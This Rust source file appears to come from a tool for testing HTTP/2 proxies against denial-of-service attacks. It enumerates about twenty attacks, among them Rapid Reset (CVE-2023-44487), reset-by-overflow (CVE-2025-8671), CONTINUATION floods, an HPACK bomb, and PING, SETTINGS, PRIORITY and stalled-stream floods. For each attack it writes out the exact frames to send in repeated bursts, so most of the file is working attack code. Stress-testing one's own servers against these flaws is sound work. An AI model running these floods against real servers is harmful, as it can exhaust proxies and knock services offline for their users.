//! The attacks: which frames each of them sends, for as long as the connection lasts.
//!
//! Here: contents. Not here: sockets and time (`attacker`).

use crate::frame::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, kept, literal, request,
};

/// Streams that one connection may use up before another one takes over.
const LAST_STREAM: u32 = 0x7fff_0000;
/// Frames or streams that are written at once.
const BURST: usize = 64;
/// Streams that stay open at once where an attack holds them: what proxies allow.
const OPEN: u32 = 100;

/// A way to make a proxy work, or remember, for nothing.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, clap::ValueEnum)]
#[value(rename_all = "snake_case")]
pub(crate) enum Attack {
    /// Requests that are taken back at once (CVE-2023-44487)
    RapidReset,
    /// The proxy resets (CVE-2025-8671): the stream's window grows beyond 2^31-1
    ResetByOverflow,
    /// The proxy resets: a WINDOW_UPDATE of zero
    ResetByZeroUpdate,
    /// The proxy resets: a stream that depends on itself
    ResetByPriority,
    /// The proxy resets: a PRIORITY frame of the wrong length
    ResetByLength,
    /// The proxy resets: DATA after the end of the request
    ResetByData,
    /// The proxy resets: HEADERS after the end of the request
    ResetByHeaders,
    /// The proxy resets: more body than Content-Length says
    ResetByContentLength,
    /// A header block without end (CVE-2024-27316 and kin)
    Continuation,
    /// The same with fragments without a byte
    EmptyContinuation,
    /// DATA frames without a byte (CVE-2019-9518)
    EmptyData,
    /// PING (CVE-2019-9512)
    Ping,
    /// PING, and no answer is read
    PingUnread,
    /// SETTINGS (CVE-2019-9515)
    Settings,
    /// SETTINGS, and no acknowledgement is read
    SettingsUnread,
    /// PRIORITY frames that rebuild a tree (CVE-2019-9513)
    Priority,
    /// WINDOW_UPDATE by one byte
    WindowUpdate,
    /// One large field in the dynamic table, thousands of references to it
    HpackBomb,
    /// Header lists beyond the limit, well-formed, again and again
    HeaderList,
    /// Answers that are asked for and never taken (CVE-2019-9517)
    Stalled,
    /// The same, and the streams are reset and asked for anew
    StalledReset,
}

impl Attack {
    /// Whether the attacker reads what the proxy says.
    pub(crate) fn reads(self) -> bool {
        !matches!(self, Self::PingUnread | Self::SettingsUnread)
    }

    /// Whether answers of the proxy find no window.
    pub(crate) fn stalls(self) -> bool {
        matches!(self, Self::Stalled | Self::StalledReset)
    }

    fn asks_for_large(self) -> bool {
        self.stalls()
    }
}

/// One attacking connection's supply of frames.
pub(crate) struct Supply {
    attack: Attack,
    authority: String,
    /// Requests carry it, so that the origin knows whose they are.
    id: u64,
    stream: u32,
    bursts: u64,
}

impl Supply {
    pub(crate) fn new(attack: Attack, authority: &str, id: u64) -> Self {
        Self { attack, authority: authority.to_owned(), id, stream: 1, bursts: 0 }
    }

    /// What comes next; `None`: nothing more, but the connection stays.
    pub(crate) fn next(&mut self) -> Option<Frames> {
        let mut frames = Frames::default();
        match self.attack {
            Attack::RapidReset => self.requests(&mut frames, |frames, stream| {
                frames.push(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }),
            Attack::ResetByOverflow => self.requests(&mut frames, |frames, stream| {
                frames.push(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
            }),
            Attack::ResetByZeroUpdate => self.requests(&mut frames, |frames, stream| {
                frames.push(WINDOW_UPDATE, 0, stream, &[0; 4]);
            }),
            Attack::ResetByPriority => self.requests(&mut frames, |frames, stream| {
                frames.push(PRIORITY, 0, stream, &priority(stream));
            }),
            Attack::ResetByLength => self.requests(&mut frames, |frames, stream| {
                frames.push(PRIORITY, 0, stream, &[0; 4]);
            }),
            Attack::ResetByData => self.requests(&mut frames, |frames, stream| {
                frames.push(DATA, END_STREAM, stream, b"x");
            }),
            Attack::ResetByHeaders => self.requests(&mut frames, |frames, stream| {
                frames.push(HEADERS, END_STREAM | END_HEADERS, stream, &[0x82]);
            }),
            Attack::ResetByContentLength => self.bodies(&mut frames),
            Attack::Continuation => self.continuation(&mut frames, true),
            Attack::EmptyContinuation => self.continuation(&mut frames, false),
            Attack::EmptyData => self.empty_data(&mut frames),
            Attack::Ping | Attack::PingUnread => many(&mut frames, |frames, _| {
                frames.push(PING, 0, 0, &[1; 8]);
            }),
            Attack::Settings | Attack::SettingsUnread => many(&mut frames, |frames, number| {
                // The table's size changes each time, so that there is something to do.
                frames.push(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, number]);
            }),
            Attack::Priority => self.priorities(&mut frames),
            Attack::WindowUpdate => many(&mut frames, |frames, _| {
                frames.push(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
            }),
            Attack::HpackBomb => self.bomb(&mut frames),
            Attack::HeaderList => self.header_list(&mut frames),
            Attack::Stalled => {
                if self.bursts > 0 {
                    return None;
                }
                self.stalled(&mut frames);
            }
            Attack::StalledReset => {
                for stream in (1..=OPEN).filter_map(|back| self.stream.checked_sub(2 * back)) {
                    frames.push(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                }
                self.stalled(&mut frames);
            }
        }
        self.bursts += 1;
        (self.stream < LAST_STREAM).then_some(frames)
    }

    fn path(&self) -> String {
        let word = if self.attack.asks_for_large() { "large" } else { "hold" };
        format!("/{word}/{}", self.id)
    }

    fn head(&self, method: &str) -> Vec<u8> {
        request(method, &self.authority, &self.path())
    }

    fn take_stream(&mut self) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        stream
    }

    /// Whole requests, each with what makes an end of it.
    fn requests(&mut self, frames: &mut Frames, end: impl Fn(&mut Frames, u32)) {
        let head = self.head("GET");
        for _ in 0..BURST {
            let stream = self.take_stream();
            frames.push(HEADERS, END_STREAM | END_HEADERS, stream, &head);
            end(frames, stream);
        }
    }

    fn bodies(&mut self, frames: &mut Frames) {
        let mut head = self.head("POST");
        literal(&mut head, "content-length", "1");
        for _ in 0..BURST {
            let stream = self.take_stream();
            frames.push(HEADERS, END_HEADERS, stream, &head);
            frames.push(DATA, END_STREAM, stream, b"xyz");
        }
    }

    fn continuation(&mut self, frames: &mut Frames, filled: bool) {
        if self.bursts == 0 {
            frames.push(HEADERS, END_STREAM, 1, &self.head("GET"));
        }
        let mut field = Vec::new();
        if filled {
            literal(&mut field, "x-field", &"v".repeat(64));
        }
        many(frames, |frames, _| frames.push(CONTINUATION, 0, 1, &field));
    }

    fn empty_data(&mut self, frames: &mut Frames) {
        if self.bursts == 0 {
            frames.push(HEADERS, END_HEADERS, 1, &self.head("POST"));
        }
        many(frames, |frames, _| frames.push(DATA, 0, 1, &[]));
    }

    /// Each stream becomes the only child of the one before, in turn.
    fn priorities(&mut self, frames: &mut Frames) {
        for _ in 0..BURST {
            let number = u32::try_from(self.bursts % 500).unwrap_or(0);
            let parent = 0x8000_0000 | (2 * ((number * 7) % 1_000) + 1);
            let [a, b, c, d] = parent.to_be_bytes();
            frames.push(PRIORITY, 0, 2 * number + 2_001, &[a, b, c, d, 15]);
            self.bursts += 1;
        }
    }

    fn bomb(&mut self, frames: &mut Frames) {
        let mut head = self.head("GET");
        if self.bursts == 0 {
            // With the 32 bytes that an entry counts for itself it just fits the table.
            kept(&mut head, "x", &"y".repeat(4_096 - 32 - 1));
        }
        head.resize(16_000, 0x80 | 62);
        let stream = self.take_stream();
        frames.push(HEADERS, END_STREAM | END_HEADERS, stream, &head);
    }

    fn header_list(&mut self, frames: &mut Frames) {
        let stream = self.take_stream();
        frames.push(HEADERS, END_STREAM, stream, &self.head("GET"));
        let mut fields = Vec::new();
        for number in 0..60 {
            literal(&mut fields, &format!("x-{number}"), &"v".repeat(256));
        }
        for part in 0..4 {
            frames.push(CONTINUATION, if part == 3 { END_HEADERS } else { 0 }, stream, &fields);
        }
    }

    fn stalled(&mut self, frames: &mut Frames) {
        let head = self.head("GET");
        for _ in 0..OPEN {
            let stream = self.take_stream();
            frames.push(HEADERS, END_STREAM | END_HEADERS, stream, &head);
        }
    }
}

/// The payload of a PRIORITY frame.
fn priority(parent: u32) -> [u8; 5] {
    let [a, b, c, d] = parent.to_be_bytes();
    [a, b, c, d, 15]
}

/// A burst of like frames.
fn many(frames: &mut Frames, one: impl Fn(&mut Frames, u8)) {
    for number in 0..4 * BURST {
        one(frames, u8::try_from(number % 256).unwrap_or(0));
    }
}
